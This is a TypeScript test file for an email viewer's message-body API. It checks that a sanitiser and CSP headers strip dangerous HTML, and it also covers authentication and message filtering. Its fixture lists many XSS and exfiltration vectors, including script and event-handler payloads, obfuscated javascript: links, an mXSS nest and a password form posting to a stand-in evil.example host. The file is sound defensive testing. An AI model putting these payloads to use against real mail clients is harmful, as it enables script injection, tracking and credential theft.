import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MessageContent } from '../store/message-content.js';
import { emailBodyDocument, sanitiseEmailHtml } from './routes/message-body-html.js';
import { MESSAGE_BODY_CSP } from './routes/message-body.js';
import { verdictAt } from './routes/verdict-fixture.js';
import { type Harness, startHarness } from './test-harness.js';

const T0 = Date.UTC(2026, 5, 1, 9);
const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** Every way an email has tried to run, load, navigate or submit something. */
const HOSTILE_HTML = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<meta charset="utf-8">
<base href="http://evil.example/base/">
<link rel="stylesheet" href="http://evil.example/sheet.css">
<title>Invoice TITLE-TEXT</title>
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/style-bg.png) }</style>
<script>alert('head-script')</script>
</head><body onload="alert('body-onload')">
<p style="color: red; background:url(http://evil.example/inline-bg.png)">Dear customer, <b>pay</b> today.</p>
<p style="color:blue">Blue stays</p>
<div style="background-image: u\\72l(http://evil.example/escaped.png); font-weight: bold">escaped url</div>
<div style="width: expression(alert('ie'))">expression</div>
<div style="background: image-set('http://evil.example/set.png' 1x)">image-set</div>
<img src="http://evil.example/pixel.gif" alt="remote pixel">
<img src="//evil.example/protocol-relative.gif" alt="protocol relative">
<img src="tracking.gif" alt="relative">
<img src="x" onerror="alert('img-onerror')" alt="broken">
<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x" alt="srcset">
<img src="${PIXEL}" alt="inline pixel">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data">
<picture><source srcset="http://evil.example/picture.png"><img alt="picture"></picture>
<a href="javascript:alert('js-link')">Click JS</a>
<a href="JaVaScRiPt&colon;alert('entity-js')">Entity JS</a>
<a href="https://evil.example/login" target="_blank" onclick="alert('click')">Sign in to your bank</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<iframe src="http://evil.example/frame">IFRAME-FALLBACK</iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="http://evil.example/obj.swf">OBJECT-FALLBACK</object>
<embed src="http://evil.example/embed.swf">
<form action="http://evil.example/steal" method="post"><input name="password" type="password"><button formaction="http://evil.example/btn">Send</button></form>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg-onload')"><script>alert('svg-script')</script><a href="javascript:alert('svg-link')"><text>SVG-TEXT</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
<table border="1" cellpadding="4" background="http://evil.example/table-bg.png"><tr><td colspan="2" bgcolor="#eeeeee">Amount</td><td>1,250.00 EUR</td></tr></table>
<video src="http://evil.example/v.mp4" poster="http://evil.example/poster.png"></video>
<audio src="http://evil.example/a.mp3"></audio>
<div onmouseover="alert('hover')" id="x" class="y">hover me</div>
<a href="https://evil.example/ping" ping="http://evil.example/ping">ping</a>
<script src="http://evil.example/remote.js"></script>
</body></html>`;

function content(html: string | null, text: string): MessageContent {
  return {
    headers: [{ name: 'subject', value: 'Invoice' }],
    text,
    html,
    links: [{ href: 'https://evil.example/login', text: 'Sign in to your bank', host: 'evil.example', registrableDomain: 'evil.example', textDomain: null, source: 'html' }],
    attachments: [],
    auth: { spf: { result: 'pass', domain: 'vendor.example' } },
    truncated: false,
  };
}

let h: Harness;
let viewer: { cookie: string; csrf: string };

beforeAll(async () => {
  h = await startHarness();
  await h.addUser('vic', 'viewer');
  viewer = await h.login('vic');
  await h.store.saveVerdict(verdictAt('hostile', T0, { recipients: ['bob@example.org'] }), content(HOSTILE_HTML, 'plain fallback'));
  await h.store.saveVerdict(verdictAt('plain', T0 + 1000, { recipients: ['ceo@example.org'] }), content(null, 'Hello <script>alert(1)</script> & "friends"\nline two'));
  await h.store.saveVerdict(verdictAt('bare', T0 + 2000, { recipients: ['cfo@example.org'] }));
});
afterAll(async () => {
  await h.close();
});

const get = (url: string, cookie: string | null = viewer.cookie) => h.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });

describe('GET /messages/:id/body', () => {
  it('serves the sanitised HTML as a document with the CSP, framing and caching headers', async () => {
    const response = await get('/api/v1/messages/hostile/body');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(response.headers['content-security-policy']).toBe(MESSAGE_BODY_CSP);
    const csp = String(response.headers['content-security-policy']);
    for (const directive of ["default-src 'none'", "style-src 'unsafe-inline'", 'img-src data:', "base-uri 'none'", "form-action 'none'", 'sandbox']) expect(csp).toContain(directive);
    expect(csp).not.toMatch(/script-src|unsafe-eval|allow-scripts|allow-same-origin/);
    expect(response.headers['x-frame-options']).toBe('SAMEORIGIN');
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body).toBe(emailBodyDocument({ html: HOSTILE_HTML, text: 'plain fallback' }));
  });

  it('leaves nothing in hostile HTML that runs, loads, navigates or submits', () => {
    const out = sanitiseEmailHtml(HOSTILE_HTML);
    // Code: no script element, no handler attribute, no javascript: outside a link's title.
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/alert\('(head-script|svg-script|srcdoc|mxss|ie)'\)/);
    expect(out.replace(/title="[^"]*"/g, '')).not.toMatch(/javascript/i);
    // Elements that load, frame, submit or redirect.
    for (const tag of ['style', 'link', 'meta', 'base', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'svg', 'math', 'video', 'audio', 'source', 'picture', 'title']) {
      expect(out).not.toMatch(new RegExp(`<${tag}[\\s>/]`, 'i'));
    }
    // Attributes that navigate or load.
    for (const attribute of ['href', 'srcset', 'srcdoc', 'action', 'formaction', 'background', 'poster', 'ping', 'data', 'http-equiv', 'target', 'id', 'class']) {
      expect(out).not.toMatch(new RegExp(`\\s${attribute}\\s*=`, 'i'));
    }
    // No remote or relative URL survives anywhere except as a link's title text.
    expect(out.replace(/title="[^"]*"/g, '')).not.toMatch(/evil\.example|tracking\.gif/);
    expect(out).not.toMatch(/url\s*\(|@import/i);
    const styles = [...out.matchAll(/style="([^"]*)"/g)].map((m) => m[1]);
    expect(styles).toEqual(['color:red', 'color:blue', 'font-weight:bold']);
    // Content of dropped containers is gone too.
    expect(out).not.toMatch(/TITLE-TEXT|SVG-TEXT|IFRAME-FALLBACK|OBJECT-FALLBACK/);
    // Every img src left is an inline raster data: image.
    const sources = [...out.matchAll(/<img[^>]*\ssrc="([^"]*)"/g)].map((m) => m[1]);
    expect(sources).toEqual([PIXEL]);
  });

  it('keeps what the reader needs: text, formatting, tables, safe styles, inline images, link targets as titles', () => {
    const out = sanitiseEmailHtml(HOSTILE_HTML);
    expect(out).toContain('Dear customer, <b>pay</b> today.');
    expect(out).toContain('<p style="color:red">');
    expect(out).toContain('<p style="color:blue">Blue stays</p>');
    expect(out).toContain('<div style="font-weight:bold">escaped url</div>');
    expect(out).toContain('<td colspan="2" bgcolor="#eeeeee">Amount</td>');
    expect(out).toContain('<table border="1" cellpadding="4">');
    expect(out).toContain('<a title="https://evil.example/login">Sign in to your bank</a>');
    expect(out).toContain('<a title="javascript:alert(&#39;js-link&#39;)">Click JS</a>'.replace(/&#39;/g, "'"));
    expect(out).toContain('alt="remote pixel"');
    expect(out).toContain('hover me');
  });

  it('escapes the text body in <pre> when the message has no HTML', async () => {
    const response = await get('/api/v1/messages/plain/body');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-security-policy']).toBe(MESSAGE_BODY_CSP);
    expect(response.body).toContain('Hello &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;friends&quot;\nline two</pre>');
    expect(response.body).not.toContain('<script');
  });

  it('answers 404 for a message without stored content and for an unknown message', async () => {
    const bare = await get('/api/v1/messages/bare/body');
    expect(bare.statusCode).toBe(404);
    expect(bare.json()).toEqual({ error: 'not_found', message: 'no body was stored for this message' });
    expect((await get('/api/v1/messages/nope/body')).statusCode).toBe(404);
  });

  it('needs a signed-in user: anonymous gets 401', async () => {
    const anonymous = await get('/api/v1/messages/hostile/body', null);
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.body).not.toContain('Dear customer');
  });
});

describe('messages list by group and sender domain; one message with its content', () => {
  const ids = async (query: string) => ((await get(`/api/v1/messages${query}`)).json() as { items: Array<{ id: string }> }).items.map((m) => m.id);

  it('filters by a group of the organisation (any recipient in it) and by sender domain', async () => {
    expect(await ids('')).toEqual(['bare', 'plain', 'hostile']);
    expect(await ids('?group=executives')).toEqual(['bare', 'plain']);
    expect(await ids('?group=executives&recipient=cfo@example.org')).toEqual(['bare']);
    expect(await ids('?senderDomain=VENDOR.example')).toEqual(['bare', 'plain', 'hostile']);
    expect(await ids('?senderDomain=other.example')).toEqual([]);
  });

  it('answers 400 for a group the organisation does not have, including inherited object keys', async () => {
    for (const group of ['nobody', 'constructor', '__proto__']) {
      const response = await get(`/api/v1/messages?group=${group}`);
      expect(response.statusCode).toBe(400);
      expect((response.json() as { message: string }).message).toContain(group);
    }
  });

  it('shows the content without the raw HTML', async () => {
    const one = (await get('/api/v1/messages/hostile')).json() as { content: Record<string, unknown>; quarantine: unknown; history: unknown[] };
    expect(one.content).toMatchObject({ text: 'plain fallback', hasHtml: true, truncated: false, headers: [{ name: 'subject', value: 'Invoice' }] });
    expect(one.content).not.toHaveProperty('html');
    expect(JSON.stringify(one)).not.toContain('<script');
    expect(one.quarantine).toBeNull();
    expect(one.history).toEqual([]);
    const bare = (await get('/api/v1/messages/bare')).json() as { content: unknown };
    expect(bare.content).toBeNull();
    expect(((await get('/api/v1/messages/plain')).json() as { content: { hasHtml: boolean } }).content.hasHtml).toBe(false);
  });
});
